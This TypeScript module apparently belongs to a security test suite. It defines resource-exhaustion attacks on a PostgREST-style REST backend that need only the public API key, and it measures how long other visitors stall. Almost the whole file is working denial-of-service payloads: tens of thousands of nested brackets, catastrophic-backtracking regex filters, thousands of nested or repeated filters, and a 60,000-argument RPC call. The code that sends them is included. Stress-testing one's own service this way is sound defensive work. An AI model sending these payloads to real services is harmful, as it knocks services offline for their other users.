import { type Request, repeat } from '../repeat.ts';
import { stalls, withVisitor } from '../stall.ts';
import type { Attack, Outcome, Target } from '../types.ts';

const deep = (levels: number) => '['.repeat(levels);
const post = (path: string, body: string): Request => ({ path: `/rest/v1/${path}`, method: 'POST', body });
const get = (table: string, query: Record<string, string>): Request => ({
  path: `/rest/v1/${table}?${new URLSearchParams(query)}`,
});

/** Single requests of at most 80 kB that would occupy PostgreSQL's parsers for seconds, or crash them. */
const REQUESTS: [name: string, request: Request][] = [
  ['40,000 brackets in a call', post('rpc/slugify', `{"p_text":${deep(40_000)}}`)],
  ['40,000 brackets and nothing else', post('rpc/search_schools', deep(40_000))],
  [
    '50,000 brackets in the text of a list',
    post('rpc/json_text_list', JSON.stringify({ p_text: deep(50_000) })),
  ],
  ['40,000 objects in a row', post('schools?columns=name,sources', `{"sources":${'{"a":'.repeat(16_000)}`)],
  ['14,000 brackets in a filter', get('schools', { select: 'id', sources: `cs.${deep(14_000)}` })],
  [
    '14,000 brackets in a tree of filters',
    get('schools', { select: 'id', or: `(sources.cs."${deep(14_000)}")` }),
  ],
  ['3,500 filters in filters', get('schools', { select: 'id', and: `(${'and('.repeat(3_500)}` })],
  ['a pattern of 65,025 letters', get('schools', { select: 'id', name: 'match.(x{255}){255}' })],
  [
    'a pattern of 5,000 repetitions',
    get('schools', { select: 'id', name: `match.${'(x*)*'.repeat(2_500)}` }),
  ],
  [
    'a search of 7,000 groups',
    get('schools', { select: 'id', name: `fts.${'('.repeat(7_000)}x${')'.repeat(7_000)}` }),
  ],
];
const list = (count: number, item: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => item(index)).join();
/** The same by number: each takes a second or more, or exhausts memory. */
const COUNTS: typeof REQUESTS = [
  ['2,500 patterns', get('schools', { select: 'id', or: `(${list(2_500, (i) => `name.ilike.*zq${i}*`)})` })],
  [
    '5,000 patterns of one filter',
    get('schools', { select: 'id', name: `ilike(any).{${list(5_000, (i) => `*zq${i}*`)}}` }),
  ],
  [
    '100 text searches',
    get('schools', { select: 'id', or: `(${list(100, (i) => `description.plfts.zq${i}`)})` }),
  ],
  ['1,000 embedded resources', get('schools', { select: list(1_000, (i) => `a${i}:school_images(id)`) })],
  ['500 times the same column', get('schools', { select: list(500, (i) => `a${i}:description`) })],
  ['60,000 arguments', post('rpc/search_schools', `{${list(60_000, (i) => `"k${i}":1`)}}`)],
];
const TIMES = 2;

async function attempt({ backend, keys }: Target, requests: typeof REQUESTS): Promise<Outcome> {
  const headers = { apikey: keys.publishable, 'content-type': 'application/json' };
  const page = `${backend}/rest/v1/countries?limit=1&apikey=${keys.publishable}`;
  const through: string[] = [];
  let worst = { longest: 0, name: '' };
  for (const [name, request] of requests) {
    const visit = await withVisitor(page, async () => {
      await repeat(backend, () => ({ ...request, headers }), TIMES);
    });
    through.push(...stalls(name, visit));
    if (visit.longest > worst.longest) worst = { longest: visit.longest, name };
  }
  return {
    tried: requests.length * TIMES,
    through,
    note: `longest stall ${Math.round(worst.longest)} ms: ${worst.name}`,
  };
}

/** Single requests with the public key, while another visitor reads. */
export const nesting: Attack[] = [
  {
    point: 10,
    title: 'stall others by one nested request to the embedded backend',
    attempt: (target) => attempt(target, REQUESTS),
  },
  {
    point: 'N',
    title: 'stall others by one request with far too many parts',
    attempt: (target) => attempt(target, COUNTS),
  },
];
